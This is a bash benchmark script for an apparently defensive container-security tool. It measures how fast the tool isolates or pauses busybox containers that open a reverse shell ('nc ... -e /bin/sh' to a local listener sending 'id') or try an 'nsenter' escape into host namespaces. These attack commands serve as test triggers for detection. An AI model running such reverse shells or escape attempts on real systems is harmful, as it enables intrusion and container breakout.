#!/usr/bin/env bash
# Time from the triggering event to the response taking effect (root; runc; about a minute):
#   RUNS=20 bench/respond.sh
# A busybox workload is learned and put in protect mode; `kestrel detect --live --respond` runs with a
# policy that isolates reverse shells and freezes containers that try to escape; then, RUNS times, a fresh
# container starts a reverse shell (`nc -e /bin/sh` to a listener on the host) and another tries nsenter.
# kestrel prints the event-to-action latency (kernel event time → action done and verified) at the end.
set -euo pipefail
cd "$(dirname "$0")/.."
ROOT=$PWD
RUNS=${RUNS:-20}
OUT=${OUT:-$ROOT/bench/out/respond}
cargo build --release -p kestrel --quiet
K=$ROOT/target/release/kestrel
export KESTREL=$K LAB_DIR=$OUT/lab
source lab/lib.sh
rm -rf "$OUT"; mkdir -p "$OUT"
lab/normal.sh busybox 2 10 "$OUT/learn.jsonl.zst" >/dev/null
"$K" learn -q --workload busybox --mode protect --profiles "$OUT/profiles" "$OUT/learn.jsonl.zst"
cat > "$OUT/policy.yaml" <<'EOF'
dry_run: false
rate_limit: {actions: 1000, seconds: 60}
budget: {actions: 1000, seconds: 3600}
rules:
  - name: cut reverse shells
    when: {rules: ["Reverse shell", "Network tool running a program"]}
    actions: [isolate]
  - name: freeze escapes
    when: {rules: ["Namespace entered from a container"]}
    actions: [pause]
EOF
"$K" detect --live --runc-parent kestrel-lab ${DETECT_FLAGS:-} --workload busybox --profiles "$OUT/profiles" \
  --respond "$OUT/policy.yaml" --audit "$OUT/audit.jsonl" -f json > "$OUT/alerts.jsonl" 2> "$OUT/detect.log" &
DET=$!
until grep -q watching "$OUT/detect.log"; do sleep 0.1; done
PORT=$(free_port)
python3 -c '
import socket, sys
s = socket.create_server(("127.0.0.1", int(sys.argv[1])))
while True:
    c, _ = s.accept()
    c.sendall(b"id\n")
' "$PORT" & LISTENER=$!
for i in $(seq "$RUNS"); do
  n="bench-respond-$i-$$"
  make_bundle "$n" busybox; start "$n"
  sleep "${SETTLE:-0}"
  runc exec -d "$n" /bin/nc 127.0.0.1 "$PORT" -e /bin/sh </dev/null >/dev/null 2>&1
  runc exec "$n" /bin/nsenter -t 1 -m -u -i -n -p /bin/true </dev/null >/dev/null 2>&1 || true
  sleep 0.5
  for d in $(python3 -c 'import json,sys
for l in open(sys.argv[1]):
    d = json.loads(l)
    if d["outcome"] == "acted" and d["action"] in ("isolate", "pause") and sys.argv[2] in d["container"]: print(d["id"])' \
      "$OUT/audit.jsonl" "$n" | sort -u); do
    "$K" respond undo "$d" --audit "$OUT/audit.jsonl" 2>/dev/null || true
  done
  stop "$n"; rm -rf "${LAB_DIR:?}/$n"
done
kill -INT $DET; wait $DET || true
kill $LISTENER 2>/dev/null || true
grep -E "latency|events" "$OUT/detect.log" | tee "$OUT/respond.txt"
python3 - "$OUT/audit.jsonl" <<'PY' | tee -a "$OUT/respond.txt"
import json, sys, collections
last, took = {}, []
for l in open(sys.argv[1]):
    d = json.loads(l); last[d["id"]] = d
    if d["outcome"] == "acted":
        took.append(d["took_us"])
c = collections.Counter((d["action"], d["outcome"]) for d in last.values())
print("decisions (latest state):", dict(c))
took.sort()
if took:
    print(f"the action alone (evidence, act, verify), µs: p50 {took[len(took)//2]}, max {took[-1]} ({len(took)})")
PY
